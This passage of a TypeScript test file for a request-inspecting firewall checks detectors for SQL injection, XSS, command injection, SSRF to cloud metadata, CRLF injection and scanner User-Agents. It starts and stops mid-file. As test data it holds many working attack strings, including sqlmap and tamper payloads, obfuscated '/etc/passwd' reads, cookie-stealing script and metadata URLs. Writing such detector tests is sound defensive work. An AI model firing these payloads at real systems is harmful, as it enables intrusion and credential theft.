      'use `--force` to override', 'press `#` then `*`', 'either `a` or `b` works', 'See `make -j4`; it is faster', 'In case when you arrive late, call us',
      'pick a size (select one)', 'choose sizes (select 5 items)', 'A selector can use various implementations (select(), poll(), epoll()...)',
      'the case of the missing union', 'a) where to start', "I don't know where = is", 'Elt(x) is a helper', 'we waitfor nobody', "it's 1 where 2 is",
      'Run `git log --oneline`; then `git show`', 'case-sensitive (Select All)',
    ];
    assert.deepEqual(hits(detectSqli, benign), []);
  });

  it('reads a boolean or a comment marker quoted in prose as a quoted word, not a string break', () => {
    const prose = [
      'Document the intent of the "--no-create-home" option. (Closes: #152195)', 'Delete some unused "#ifdef notdef" static functions',
      "allow people to comment lines by starting them with '##'.", "1. option:: '--zonefile <filename>' specifies a text file", '- "and" predicates do not keep captures',
      'Ie, "&&" instead of "||". We made this change', 'The overridden "or" operator was preventing it', 'Posix says you end arguments with "--" , but',
      'Skip "#" in glyph names.', "error C2121: '#': invalid character", 'Line should start with "# ".', "prefix annotate-stdin with '--' in message",
    ];
    assert.deepEqual(hits(detectSqli, prose), []);
    // An injection closes the string right after a value, or goes on with code after the quoted word; a whole value is no prose.
    const attacks = ["admin'--", "admin'--'", "x'--a", "admin'#", "'or'1'='1", "'or'='or'", '"or""="', "x'or'1'='1", "'--'", "'#'", "'||'"];
    assert.deepEqual(misses(detectSqli, attacks), []);
    assert.deepEqual(detectSqli("admin'--'"), { rule: 'comment after string break', fingerprint: 'sc' });
  });

  it('needs a statement\'s next part after `;`: English verbs after a semicolon are prose', () => {
    const prose = [
      'we now use getaddrinfo rather than gethostbyname; update configure.ac accordingly.', 'Add argument for passing the table size; update caller.',
      'The new block was added twice; delete the duplicate.', 'FcCodePageRange was using char pointers; replace them with char arrays.',
      'Remove idx declaration; declare idx inside of the for loop', 'Rename get_scno; declare it only if USE_PROCFS.', 'I moved; select all.',
      'drop config.user file; replace with conventional autoconf --prefix, etc.', 'old account; delete it -- thanks?',
    ];
    assert.deepEqual(hits(detectSqli, prose), []);
    const attacks = [
      '1; UPDATE users SET pass=1--', '1;update db.users set role=0', "1;DELETE FROM users--", '1;DELETE users WHERE 1=1', "1;INSERT INTO t VALUES(1)", '1;REPLACE t (a,b) VALUES(1,2)',
      '1;DECLARE @x CHAR(9);SET @x=0x303a303a35;WAITFOR DELAY @x--', "1;EXEC master.dbo.xp_cmdshell 'dir'", '1;SHUTDOWN--', "1; execute immediate 'sel' || 'ect'", '1;SELECT t.a FROM t',
    ];
    assert.deepEqual(misses(detectSqli, attacks), []);
    assert.deepEqual(detectSqli('1;DELETE users WHERE 1=1')?.rule, 'stacked query');
    // T-SQL's and Oracle's DELETE without FROM, ending the value; a sentence goes on after its table.
    assert.deepEqual(detectSqli('1;DELETE users--'), { rule: 'stacked query', fingerprint: 'n;Ybc' });
    assert.deepEqual(detectSqli("x'; delete users;"), { rule: 'stacked query after string break', fingerprint: 's;Yb;' });
    assert.deepEqual(misses(detectSqli, ['1;DELETE dbo.users', '1); DELETE users -- x', "admin';DELETE users#"]), []);
    assert.deepEqual(hits(detectSqli, ['step 2; delete users -- careful', '2; delete the duplicate.', 'version 3; delete users and groups']), []);
  });

  it('finds a whole number value OR\'d with TRUE or itself (`1 OR TRUE`), not numbers a person types', () => {
    assert.deepEqual(misses(detectSqli, ['1 OR TRUE', '1 or true', '1 || true', '(1) OR (TRUE)', '1 or not false', '7 OR 7', '1 OR TRUE#']), []);
    assert.deepEqual(detectSqli('1 OR TRUE'), { rule: 'tautology', fingerprint: 'n&n' });
    assert.deepEqual(hits(detectSqli, ['1 or 2', '0 or 0', '1 or false', '1 or true story', 'true or false', '2 or 3 bedrooms', 'yes or no']), []);
  });

  it("finds the login bypass of arithmetic between two string breaks ('-'), and only that whole value", () => {
    assert.deepEqual(misses(detectSqli, ["'-'", "'*'", '"&"', "' ^ '", '"|"']), []);
    assert.deepEqual(detectSqli("'-'"), { rule: 'arithmetic between string breaks', fingerprint: 'sos' });
    assert.deepEqual(hits(detectSqli, ["' '", "'a-b'", "'-'x", `'-"`, '-', "it's - it's"]), []);
  });

  it('finds script calls after a JavaScript string break, and meta refresh to javascript:', () => {
    const attacks = ['"-alert(1)-"', "';alert(String.fromCharCode(88,83,83))//", "'};confirm`1`//", '"+window.prompt(1)+"', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'];
    assert.deepEqual(misses(detectXss, attacks), []);
    assert.equal(detectXss('"-alert(1)-"'), 'script call after string break');
    assert.deepEqual(hits(detectXss, ["I'm on alert (again)", 'he said "stay alert" - always', "it's fine; prompt me later", '<meta http-equiv="refresh" content="5;url=/home">']), []);
  });

  it('finds script calls where a page writes the value into script unquoted, and the function passed or named instead of called', () => {
    const attacks = [
      '48e71;alert(1)//503466e3', 'a29b1;alert(888)//a62b7156d82', '-alert(1)-', '1}};prompt(document.domain)//', 'alert(1)', 'alert`1`', '!confirm(1)',
      '(alert)(1)', '[1].find(alert)', 'top["al"+"ert"](1)', 'top[/al/.source+/ert/.source](1)', 'top[8680439..toString(30)](1)', 'self.alert(1)',
    ];
    assert.deepEqual(misses(detectScriptCall, attacks), []);
    // The same check is part of detectXss, for values with quotes or markup too.
    assert.equal(detectXss('x=1;alert(document.cookie)//'), 'script call in a script context');
    assert.equal(detectScriptCall('48e71;alert(1)//503466e3'), 'script call in a script context');
    const benign = [
      'change_cipher_spec(20), alert(21), handshake(22)', 'Added option `--alert` to run host OS command(s) `id`', 'Alert (level 2)', 'on alert (again)',
      'Please confirm (yes/no)', 'prompt(s) for the user', 'we alert(ed) them', 'top 10 [best] (2024)', 'window [left] (open)', 'the [alert] tag (new)',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
    ];
    assert.deepEqual(hits(detectScriptCall, benign), []);
  });

  it('finds commands behind comments, drive paths, ${IFS}, brace expansion and globs', () => {
    const attacks = [';id #', '| dir c:\\', '& type C:\\Windows\\win.ini', ';echo${IFS}hello', ';{cat,/etc/passwd}', ';/???/??t /etc/passwd', 'x|/bin/c?t /etc/hosts'];
    assert.deepEqual(misses(detectCommandInjection, attacks), []);
    assert.equal(detectCommandInjection(';{cat,/etc/passwd}'), '; then {cat,…}');
    assert.deepEqual(hits(detectCommandInjection, ['x; {red,green}', 'colours; {a,b}', 'see id #5 below', 'dir: c; type: b', 'cats; dir C major']), []);
  });

  it("finds sqlmap's Oracle package calls, MySQL error functions and sums in a tautology", () => {
    const payloads = [
      '1;BEGIN DBMS_LOCK.SLEEP(5); END;', '1 AND DBMS_LOCK.SLEEP(5)=0', '1 AND UTL_INADDR.GET_HOST_ADDRESS(CHR(113)||CHR(113)) IS NULL',
      '1 AND 5=CTXSYS.DRITHSX.SN(1,(SELECT 1 FROM DUAL))', '1 AND GTID_SUBSET(CONCAT(0x71,(SELECT 1),0x71),1)', '-1 OR 2+3-3-1=0+0+0+1',
      "1' AND DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)=1 AND 'a'='a",
    ];
    assert.deepEqual(misses(detectSqli, payloads), []);
    assert.deepEqual(detectSqli('1;BEGIN DBMS_LOCK.SLEEP(5); END;'), { rule: 'database package call', fingerprint: 'n;bG.T(n);b;' });
    assert.deepEqual(detectSqli('-1 OR 2+3-3-1=0+0+0+1'), { rule: 'tautology', fingerprint: '+n&n+n+n+non+n+n+n' });
    assert.deepEqual(misses(detectSqli, ["1' RLIKE 1-- ", "1' LIKE 1--", "x' = 1#"]), []);
    // Level-3 stacked payloads behind a string break: SQL Server's IF, PostgreSQL's CREATE OR REPLACE.
    const stacked = ["1') ;IF(6697=6697) SELECT 6697 ELSE DROP FUNCTION xYzW-- AND ('xYzW'='xYzW", "1' ;CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(5)-- -"];
    assert.deepEqual(misses(detectSqli, stacked), []);
    assert.equal(detectSqli(stacked[0])?.rule, 'stacked condition after string break');
    assert.deepEqual(hits(detectSqli, ["it's done; if (x=1) we go", "Tom's plan; create or replace the old one"]), []);
    assert.deepEqual(detectSqli("1' RLIKE 1-- "), { rule: 'comparison then comment after string break', fingerprint: 'slnc' });
    assert.deepEqual(hits(detectSqli, ["it's like 5 -- amazing", "I'm like 2 -- no", "'Hello' = 'world' -- what"]), []);
    const benign = ['how to call DBMS_LOCK.SLEEP(5) in PL/SQL', 'DBMS_LOCK.SLEEP(5) waits 5 seconds, see docs', 'sleep(5) later', 'see dbms_lock.sleep docs', 'time.sleep(5) in python', 'sleep(5) in python', 'sleep(5) and more', 'https://shop.example/search?q=sleep(5)+in+python', 'buy 1 or 2+3 items', '1 or 2+2 is 4', 'tea or coffee in cups > 2'];
    assert.deepEqual(hits(detectSqli, benign), []);
    // A time delay with only words after its operator is a search; with the rest cut off, a comparison or SQL after it, a payload.
    assert.deepEqual(misses(detectSqli, ['sleep(5)', 'sleep(5)#', 'sleep(5)=0', '1 RLIKE SLEEP(5)', '1 AND SLEEP(5) AND abc=abc', '1 ORDER BY SLEEP(5)', '1 ORDER BY SLEEP(5)#', 'ORDER BY pg_sleep(5)--']), []);
    assert.deepEqual(hits(detectSqli, ['order by sleep(5) in python', 'sort order by sleep(8 hours)']), []);
  });

  it("finds sqlmap's level-5 boundaries on a text field, a cookie or a header", () => {
    // Values sqlmap sent at --level 5 --risk 3 against a cookie, a JSON string and headers, where
    // the original value is a word (`abc123`, `hi`) or replaced by a negative number.
    const payloads: [string, string][] = [
      ['abc123)) AS NBEO WHERE 2579=2579 AND 3443=9234-- YQNe', 'where or having clause'],
      ['-5581) WHERE 2168=2168 OR 8463=4439-- KDjc', 'where or having clause'],
      ['hi HAVING 8284=8284', 'where or having clause'],
      ['hi) HAVING 4008=4227-- cAZo', 'where or having clause'],
      ['-9452) ORDER BY 1-- TxTG', 'order by column number'],
      ['-7877 ORDER BY 1-- IXtg', 'order by column number'],
      ["abc123' IN BOOLEAN MODE) AND 7408=9899#", 'boolean after string break'],
      ["abc123' IN BOOLEAN MODE) OR NOT 2814=9925#", 'boolean after string break'],
      ["abc123' IN BOOLEAN MODE);IF(8702=8635) SELECT 8702 ELSE DROP FUNCTION mBzW--", 'stacked condition after string break'],
      ['abc123`=`abc123`;IIF(6160=2254,1,1/0)', 'stacked condition after string break'],
      ['abc123]-(SELECT 0 WHERE 9196=9196 AND (3213=8735)*8735)|[abc123', 'subquery'],
    ];
    assert.deepEqual(payloads.map(([v]) => detectSqli(v)?.rule ?? null), payloads.map(([, rule]) => rule));
    const benign = ['rows where 5 > 3', 'the best shops where 5 > 3', "it's in boolean mode) and 5 more", "he said 'in boolean mode) and so on'", '(select 5 where possible)', 'x`=`y`; if(a=1)', 'order (by 2) or 3'];
    assert.deepEqual(hits(detectSqli, benign), []);
  });

  it("finds sqlmap's DBMS fingerprint probes and its heuristic probes", () => {
    const probes: [string, string][] = [
      ['1 AND QUARTER(NULL) IS NULL', 'n&f(n)+n'],
      ['1 AND LENGTH(SYSDATE)=LENGTH(SYSDATE)', 'n&f(b)of(b)'],
      ['1 AND ZERO() IS 0', 'n&f()+n'],
      ['1 AND VAL(CVAR(1))=1', 'n&f(f(n))on'],
      ['1 AND GET_KEYWORD(NULL,NULL) IS NOT NULL', 'n&f(n,n)++n'],
      ['1 AND LAST_INSERT_ROWID 1.e( 1.e)=LAST_INSERT_ROWID 1.e( 1.e)', 'n&f()of()'],
    ];
    assert.deepEqual(probes.map(([v]) => detectSqli(v)), probes.map(([, fingerprint]) => ({ rule: 'boolean with function or subquery', fingerprint })));
    // unmagicquotes: a byte before the quote swallows the backslash an escaping function adds.
    assert.equal(detectSqli("ann WAITFOR DELAY \xbf'0:0:1'-- -")?.rule, 'time delay statement');
    // The heuristic check: ten of "'(),. appended to the value, both quotes and a parenthesis among them.
    assert.deepEqual(['1(,)")\'...,', 'ann)(),.)\'))"', '-1,",\'(,).."('].map((v) => detectSqli(v)?.rule), ['syntax-breaking probe', 'syntax-breaking probe', 'syntax-breaking probe']);
    const benign = ['1 and max(2) is fine', 'cats and dogs(2) is fine', '(("hello")).', '...,,,(()))', 'he said: "\'yes\'"... (really)', "f('a', \"b\")", '""\'\'....'];
    assert.deepEqual(hits(detectSqli, benign), []);
  });

  it("sees through sqlmap's tamper scripts that change blanks, comments, operators and quotes", () => {
    // As the HTTP stage hands them over (percent-decoded), one per tamper script.
    const tampered: [string, string][] = [
      ['space2dash', '1)--kBWEmEuvKVM\nAND--xteFjHJE\n6830=6830-- -'],
      ['space2hash', "1'#uLKdiFGNMP\nAND#OSkzMFuY\n6830=6830-- -"],
      ['space2mssqlblank', '1)\bAND\n6830=6830--\x02-'],
      ['space2mssqlblank', '1\x03OR\x057596=7596'],
      ['space2mysqlblank', "1'\rAND\xa06830=6830--\r-"],
      ['commentbeforeparentheses', '1) AND MAKE_SET/**/(2480=2480,5096)-- -'],
      ['scientific', '1 1.e) AND 6830=6830-- -'],
      ['scientific', "1' AND MAKE_SET 1.e(2480=2480 1.e,5096 1.e)-- -"],
      ['binary', '1) OR NOT binary 9627=binary 9627 AND (binary 7444=binary 7444'],
      ['between', '1 OR 7596 BETWEEN 7596 AND 7596'],
      ['between', '1 AND MAKE_SET(2480 BETWEEN 2480 AND 2480,5096)'],
      ['between', 'ann AND 3021 BETWEEN 3021 AND 3021-- pnZD'],
      ['between', 'ann AND 9967 BETWEEN 7929 AND 7929'],
      ['equaltolike', 'ann AND 2201 LIKE 2201-- deQl'],
      ['equaltolike', 'ann) AND 5963 LIKE 9759 AND (3532 LIKE 3532'],
      ['binary', '1 UNION ALL SELECT binary NULL,binary NULL-- tOWN'],
      ['dunion', '-6628DUNION ALL SELECT NULL,NULL,CHAR(113,106,98,122,113)-- x'],
      ['dunion', '1DUNION ALL SELECT NULL-- KUvL'],
      ['randomcomments', '1 A/**/ND 5641=5641'],
      ['randomcomments', "1' AN/**/D 5641=5641 A/**/ND 'NhAR'='NhAR"],
      ['randomcomments', '(S/**/EL/**/ECT (CA/**/SE W/**/HEN (2270=2270) T/**/HEN 1 EL/**/SE (S/**/EL/**/ECT 5075 U/**/NI/**/ON S/**/EL/**/ECT 3157) E/**/ND))'],
      ['equaltolike', '1)) HAVING 7374 LIKE 7374 AND ((9330 LIKE 9330'],
      ['equaltolike', "1') ;IF(6697 LIKE 6697) SELECT 6697 ELSE DROP FUNCTION xYzW-- -"],
      ['equaltorlike', '1) (CASE WHEN 4965 RLIKE 4965 THEN 4965 ELSE NULL END)-- -'],
      ['equaltolike,versionedmorekeywords', '1`)/*!WHERE*/1385/*!LIKE*/1385/*!OR*/1955/*!LIKE*//*!LIKE*/(/*!CHAR*/(65,66,67,68,69,70,71),/*!UPPER*/(HEX(RANDOMBLOB(100000000/2))))--'],
      ['escapequotes', "1\\' AND 6830=6830-- -"],
      ['space2plus', '1)+AND+4315=8051+AND+(6033=6033'],
      ['space2plus', '(SELECT+(CASE+WHEN+(1383=7449)+THEN+1+ELSE+(SELECT+7449+UNION+SELECT+6729)+END))'],
      ['space2plus', "1'+AND+8913=4494+AND+'nQvp'='nQvp"],
      ['space2plus', '1+ORDER+BY+1--+OqRD'],
      ['escapequotes', "1\\' (CAST(\\'qkzvq\\'||(SELECT (CASE WHEN (6361=6361) THEN 1 ELSE 0 END))::text||\\'qpqxq\\' AS NUMERIC))-- -"],
    ];
    assert.deepEqual(tampered.filter(([, v]) => detectSqli(v) === null), []);
    assert.deepEqual(detectSqli(tampered[0][1]), { rule: 'tautology', fingerprint: 'n)&nonc' });
    assert.deepEqual(detectSqli(tampered[6][1]), { rule: 'tautology', fingerprint: 'n)&nonc' });
    assert.deepEqual(detectSqli(tampered[9][1]), { rule: 'tautology', fingerprint: 'n&nln&n' });
    assert.deepEqual(detectSqli('1`+WHERE+3425=3425+AND+6066=LIKE(CHAR(65,66),UPPER(HEX(RANDOMBLOB(100000000/2))))--+uYtu'), { rule: 'where clause after string break', fingerprint: 'sWnon&nol(f(n,n),f(f(G(n+n))))c' });
    // `+` is read as a blank only where the value has no blank: sums, C++, phone numbers and base64 stay quiet.
    const plus = ['1+1=2', 'c++ or rust', 'C++', '+44 20 7946 0000', 'a+b@example.org', 'x+y=z and y+x=z', 'sum(a+b)=c', 'iVBORw0KGgo+AAAANSUhEUgAAA+ABAAAAAQ/CAYAAAAf8/9h+AAAAC0lEQVR4nGNgAAIA==', 'cats+and+dogs', 'select+your+union', 'rock+and+roll+or+jazz'];
    assert.deepEqual(hits(detectSqli, plus), []);
    assert.deepEqual(detectSqli('1`) WHERE 1385 LIKE 1385 OR 1955--'), { rule: 'where clause after string break', fingerprint: 's)Wnln&nc' });
    assert.deepEqual(hits(detectSqli, ['see `rows` where 5 like 3', 'the `users` where name like bob', "it's where cats like dogs", "the shop's where prices like 5 are"]), []);
    // A comment that runs to the end still cuts the query off; LIKE and BETWEEN between words,
    // binary as a word, 1.e in a version, escaped quotes in prose stay quiet.
    assert.deepEqual(detectSqli("admin'#\n"), { rule: 'comment after string break', fingerprint: 'sc' });
    // wfuzz's SQL list: the left side already in the query, a keyword as the right one.
    assert.deepEqual(misses(detectSqli, ['or 1=1--', 'or 0=0 #', "' or user like '%", 'or 1=1', 'and 1=1 ']), []);
    assert.deepEqual(detectSqli('or 1=1'), { rule: 'tautology', fingerprint: '&non' });
    assert.deepEqual(hits(detectSqli, ['or 5 = 5 is true', 'and so on --', "it's user like", 'or 1=1 maybe', 'or 2']), []);
    // MySQL ends a number at a letter after its fraction or exponent: `1e0UNION` is `1e0 UNION`.
    assert.deepEqual(detectSqli('1e0UNION SELECT 1'), { rule: 'union select', fingerprint: 'nUEn' });
    assert.deepEqual(sqlFingerprint('2.0beta or later', 0), 'b&b');
    // Blind extraction: a subquery inside calls, compared.
    assert.equal(detectSqli('1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>65')?.rule, 'boolean with function or subquery');
    assert.deepEqual(hits(detectSqli, ['1 and count(select one) is fine', 'coffee and max((select your size))', '1.5kg or 2.0beta']), []);
    const benign = [
      'cats and dogs like fish', 'I like 5 and 6', 'prices between 10 and 20 euros', 'x between y and z', 'download the binary (64 bit) or source', 'binary 1 or 0',
      'section 1.e) and 2.a)', 'version 2.e', '# Heading\nsome text or other = fine', 'Issue #5\nor maybe later', "it\\'s a test or not", "don\\'t like it",
      'tab\tseparated\tor\tnot', 'case when you like it', 'SELECT tips: use BETWEEN 1 AND 10',
      'cats and 5 like 6 dogs', 'sizes and prices between 10 and 20', 'shoes and 2 between 10 and 20 euros', '2d or 3d',
      'sizes 1D and 2D', 'int x = a/*first*/+b/*second*/; // or not', 'C/**/and/**/D are /* comments */ or not', 'binary null or not',
    ];
    assert.deepEqual(hits(detectSqli, benign), []);
    // 64 KB of each new blank, and of escaped quotes: read to the end, the shape after them found.
    assert.equal(detectSqli(`a${'/**/'.repeat(16384)}`), null);
    assert.equal(detectSqli('#\n'.repeat(32768)), null);
    assert.equal(detectSqli(`1' ${'--x\n'.repeat(16384)}or 1=1`)?.rule, 'boolean after string break');
    assert.equal(detectSqli(`${"\\'".repeat(32768)} or 1=1--`)?.rule, 'tautology');
    assert.equal(detectSqli(`f ${'1.e '.repeat(16384)}(1=1,2)`)?.rule, 'condition in function call');
  });

  it("reads bash's ANSI-C quoting ($'\\x69\\x64' is id)", () => {
    assert.deepEqual([";$'\\x69\\x64'", "a;$'\\143\\141\\164' /etc/passwd", "x|$'\\u0077hoami'"].map((v) => detectCommandInjection(v)), ['; then id', '; then cat', '| then whoami']);
    assert.deepEqual(hits(detectCommandInjection, ["it costs $'5' or so; fine", "$'hello'; bye", "x;$'\\x41BC'"]), []);
  });

  it('finds commands hidden by backslash escapes, substring expansion and printf', () => {
    const attacks = [';w\\hoami', '|c\\at /etc/passwd', '$(wh\\oami)', ';who\\ami', ';${PATH:0:1}bin${PATH:0:1}id', ';$(printf "\\x69\\x64")'];
    assert.deepEqual(misses(detectCommandInjection, attacks), []);
    assert.equal(detectCommandInjection(';w\\hoami'), '; then whoami');
    assert.equal(detectCommandInjection(';${PATH:0:1}bin${PATH:0:1}id'), '; then a substring expansion');
    assert.deepEqual(hits(detectCommandInjection, ['C:\\Users\\me; C:\\data\\file.txt', 'a; printf is a C function', 'say; w\\hat now', 'cost: ${price} each; ${total}']), []);
    // Expansions a shell makes empty, inside or before a command name.
    const hidden = [';cat$u /etc/passwd', ';who$@ami', ';w$()hoami', ';$u whoami', ';who${x}ami', ';wh``oami'];
    assert.deepEqual(misses(detectCommandInjection, hidden), []);
    assert.equal(detectCommandInjection(';who$@ami'), '; then whoami');
    assert.deepEqual(hits(detectCommandInjection, ['price: $5 each; $x apples', 'pay $u later; $HOME sweet home', 'a; cat$HOME']), []);
  });

  it('finds style sheets pulled in from elsewhere (CSS injection)', () => {
    const attacks = ['<style>@import url(//evil/x.css)</style>', '<style>@import "http://evil/x.css";</style>', '<LINK REL="stylesheet" HREF="http://evil/x.css">', '<link href=//evil/x.css rel=stylesheet>', '<link rel=import href=//evil/x.html>'];
    assert.deepEqual(misses(detectXss, attacks), []);
    assert.equal(detectXss('<style>@import url(//evil/x.css)</style>'), 'script or import in style element');
    assert.equal(detectXss('<link href=//evil/x.css rel=stylesheet>'), 'linked style sheet or import');
    const benign = ['<style>body{color:red}</style>', 'use <style> tags for CSS', '<link rel="icon" href="/favicon.ico">', 'the <link> element with rel=stylesheet is how you add CSS', 'CSS has @import rules'];
    assert.deepEqual(hits(detectXss, benign), []);
  });
});

describe('payload pattern file', () => {
  function tryParse(doc: unknown): string {
    try {
      parsePatterns(doc, 'p.json');
      return 'ok';
    } catch (err) {
      assert.ok(err instanceof ConfigError);
      return err.message;
    }
  }

  it("accepts the seeds' plain list and objects with options", () => {
    const list = parsePatterns([' OR 1=1', '<script>'], 'p.json');
    assert.deepEqual(list.map((p) => [p.pattern, p.attackType, p.severity, p.where.size]), [[' OR 1=1', 'payload_pattern', 2, 10], ['<script>', 'payload_pattern', 2, 10]]);
    const obj = parsePatterns({ patterns: [{ pattern: 'etc/passwd', attack_type: 'lfi', severity: 1, where: ['query'] }] }, 'p.json');
    assert.deepEqual(obj.map((p) => [p.pattern, p.attackType, p.severity, [...p.where]]), [['etc/passwd', 'lfi', 1, ['query']]]);
  });

  it('names the file and the entry of every mistake', () => {
    assert.equal(tryParse({ nope: 1 }), 'p.json: payload pattern file: expected a JSON list of patterns, or {"patterns": [...]}');
    assert.equal(tryParse(['ok', '']), 'p.json: payload pattern file: entry 1: empty pattern');
    assert.equal(tryParse([{ pattern: 'x', severity: 5 }]), 'p.json: payload pattern file: entry 0: "severity" must be 1, 2 or 3');
    assert.equal(tryParse([{ pattern: 'x', where: ['body', 'nowhere'] }]), 'p.json: payload pattern file: entry 0: "where" has "nowhere"; expected one of path, query, arg_name, header, cookie, body, json, multipart, filename, file');
    assert.equal(tryParse([{ pattern: 'x', colour: 'red' }]), 'p.json: payload pattern file: entry 0: unknown key "colour" (expected pattern, attack_type, msg, severity, where)');
    assert.equal(tryParse([{ pattern: 'x', attack_type: 'Bad Type' }]), 'p.json: payload pattern file: entry 0: "attack_type" must be a snake_case name');
  });

  it('reports a file that is missing or not JSON (the seed PoC file is not)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'rampart-patterns-'));
    try {
      const file = join(dir, 'payload_patterns.json');
      writeFileSync(file, '[{" OR 1=1", "<script>", "DROP TABLE"}]');
      assert.throws(() => loadPatternFile(file), (err: Error) => err instanceof ConfigError && err.message.startsWith(`${file}: payload pattern file: not valid JSON`));
      assert.throws(() => loadPatternFile(join(dir, 'none.json')), (err: Error) => err instanceof ConfigError && err.message === `${join(dir, 'none.json')}: payload pattern file: cannot read it (ENOENT)`);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('finds every pattern in one pass, case-insensitively, overlapping ones included', () => {
    const m = new PatternMatcher(['he', 'she', 'hers', 'DROP TABLE']);
    const found: number[] = [];
    m.find('uSHErs; drop table x', (k) => (found.push(k), false));
    assert.deepEqual(found, [1, 0, 2, 3]);
    assert.equal(m.find('nothing here', () => true), 0);
    assert.equal(m.find('abc', () => true), -1);
  });
});

describe('request targets a reverse proxy joins to its backend URL', () => {
  it("finds `@host`, `:@host` and mod_proxy's unix socket with a URL, and lets origin, absolute and asterisk forms through", () => {
    const host = 'request target that is a host, not a path (a reverse proxy joins it to its backend URL)';
    assert.deepEqual(['@localhost', ':@localhost:80', '@169.254.169.254/latest'].map(detectProxyTarget), [host, host, host]);
    assert.equal(detectProxyTarget(`/?unix:${'A'.repeat(5000)}|http://backend/`), "mod_proxy Unix socket target with a URL after '|'");
    assert.deepEqual(['/', '/a@b', 'http://x/@y', '*', 'shop.example:443', '/?q=unix:socket', '/?q=unix:a|b'].map(detectProxyTarget), [null, null, null, null, null, null, null]);
  });
});

describe('SSRF check', () => {
  it('reads the metadata address in every form a URL parser takes it', () => {
    const hits = ['http://0xA9FEA9FE/latest/', 'http://0251.0376.0251.0376/', 'http://169.254.43518/', 'https://[::ffff:169.254.169.254]/', 'http://169.254.169.254./', 'http://169.254.169.254.nip.io/', 'HTTP://user:pw@169.254.169.254:80/', '//169.254.169.254/', ' http://[fd00:ec2::254]/latest/', 'http://169.254.170.2/v2/credentials/x', 'http://100.100.100.200/latest/meta-data/', '169.254.169.254/latest/meta-data', 'dict://127.0.0.1:11211/stats'];
    assert.deepEqual(hits.filter((v) => detectSsrf(v) === null), []);
    assert.equal(detectSsrf('http://2852039166/'), 'URL to the cloud metadata service (169.254.169.254)');
  });

  it('reads a bare metadata name or address with neither a slash nor a colon, in any case', () => {
    const bare = ['169.254.169.254', ' METADATA.GOOGLE.INTERNAL', 'Instance-Data', 'metadata.goog.', '100.100.100.200?x', '\t192.0.0.192#a'];
    const hosts = ['169.254.169.254', 'metadata.google.internal', 'instance-data', 'metadata.goog.', '100.100.100.200', '192.0.0.192'];
    assert.deepEqual(bare.map((v) => detectSsrf(v)), hosts.map((h) => `address of the cloud metadata service (${h})`));
    assert.deepEqual(['GA1.2.169254169.254', 'user@169.254.169.254', 'x169.254.169.254', 'metadata'].filter((v) => detectSsrf(v) !== null), []);
  });

  it('leaves ids, local development URLs, public URLs and prose alone', () => {
    const quiet = ['2852039166', '0xA9FEA9FE', 'http://localhost:8080/cb', 'http://127.0.0.1/', 'https://cdn.example.org/169.254.169.254/x', 'see http://169.254.169.254/ for details', 'v169.254.169.254', 'https://example.org/?u=http://169.254.169.254/'];
    assert.deepEqual(quiet.filter((v) => detectSsrf(v) !== null), []);
  });
});

describe('CRLF injection check', () => {
  it('wants a header or a status line after the break', () => {
    assert.equal(detectCrlfInjection('x\r\n Set-Cookie : a=1'), 'header line "Set-Cookie:" after a line break');
    assert.equal(detectCrlfInjection('x\n\nHTTP/1.0 200 OK'), 'status line after a line break');
    assert.equal(detectCrlfInjection('x\xe5\x98\x8aSet-Cookie:a'), 'header line "Set-Cookie:" after a line break');
    assert.deepEqual(['a\r\nb', 'a\r\n: b', 'a\r\n1x: b', 'a\xe4\xb8\x8a\xe6\xb5\xb7', 'note: a'].map(detectCrlfInjection), [null, null, null, null, null]);
  });

  it('reads a run of line breaks once, up to what follows it', () => {
    // 64 KB of CRLF once took 13 s (the expression retried from each break); now one pass.
    assert.equal(detectCrlfInjection('\r\n'.repeat(20000)), null);
    assert.equal(detectCrlfInjection(`x${'\r\n \t'.repeat(5000)}Location: http://evil/`), 'header line "Location:" after a line break');
    assert.equal(detectCrlfInjection(`${'\r\nab'.repeat(3000)}\r\nSet-Cookie:x`), 'header line "Set-Cookie:" after a line break');
  });
});

describe('scanner User-Agents', () => {
  it('names the tools by the User-Agent they send by default', () => {
    const cases: [string, string][] = [
      ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'sqlmap'],
      ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'Nmap Scripting Engine'],
      ['Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)', 'Nikto'],
      ['masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'masscan'],
      ['Mozilla/5.0 zgrab/0.x', 'ZGrab'],
      ['WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)', 'WPScan'],
      ['commix/v3.8 (https://commixproject.com)', 'commix'],
      ['gobuster/3.5.0', 'gobuster'],
      ['feroxbuster/2.10.1', 'feroxbuster'],
      ['Wfuzz/3.1.0', 'wfuzz'],
      ['Fuzz Faster U Fool v2.1.0-dev', 'ffuf'],
      ['WhatWeb/0.5.5', 'WhatWeb'],
      ['Mozilla/4.0 (Hydra)', 'Hydra'],
      ['DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 'DirBuster'],
      ['Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)', 'OpenVAS'],
      ['Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'Nuclei'],
      ['Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; w3af.org)', 'w3af'],
      ['Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727) Havij', 'Havij'],
      ['Arachni/v1.5.1', 'Arachni'],
    ];
    for (const [agent, tool] of cases) assert.equal(scannerTool(agent), tool, agent);
  });

  it('names no tool in browsers, crawlers, libraries and command-line clients, nor in a tool named past where its token must be', () => {
    for (const agent of [
      'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
      'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
